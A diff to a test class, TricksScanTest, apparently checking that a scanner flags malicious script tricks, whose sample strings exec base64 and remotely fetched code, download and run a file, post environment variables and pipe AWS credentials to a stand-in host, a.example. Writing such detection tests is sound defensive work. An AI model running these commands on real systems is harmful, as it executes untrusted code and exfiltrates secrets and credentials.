@@ -175,7 +175,7 @@ class TricksScanTest {
             strings = {
                 "import base64\nexec(base64.b64decode('eA=='))\n",
                 "import urllib.request\nexec(urllib.request.urlopen('http://a.example').read())\n",
-                "import os\nos.system('curl http://a.example/x -o /tmp/x')\n",
+                "import os\nos.system('curl http://a.example/x -o /tmp/x; sh /tmp/x')\n",
                 "import requests, os\nrequests.post('http://a.example', json=dict(os.environ))\n",
                 "#!/bin/sh\ncat ~/.aws/credentials | curl -d @- http://a.example\n",
             })
